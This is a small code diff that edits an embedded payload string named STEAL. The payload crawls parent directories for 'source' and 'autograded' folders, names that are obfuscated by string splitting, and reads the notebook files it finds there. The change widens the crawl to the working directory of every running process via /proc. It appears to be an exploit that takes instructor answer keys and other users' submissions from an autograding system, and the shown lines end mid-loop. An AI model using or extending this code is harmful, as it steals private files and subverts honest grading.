@@ -87,8 +87,9 @@ STEAL = r'''
 import os, json, re, sqlite3
 up = os.path.join(*[".."] * 3)
 found = {}
-for name in ["sour" + "ce", "auto" + "graded"]:
-    for dirpath, _, files in os.walk(os.path.join(up, name)):
+roots = [up] + [os.path.join("/proc", p, "cwd") for p in os.listdir("/proc") if p.isdigit()]
+for name in [os.path.join(r, d) for r in roots for d in ["sour" + "ce", "auto" + "graded", "."]]:
+    for dirpath, _, files in os.walk(name):
         for f in files:
             if f.endswith(".ipynb"):
                 text = open(os.path.join(dirpath, f)).read()
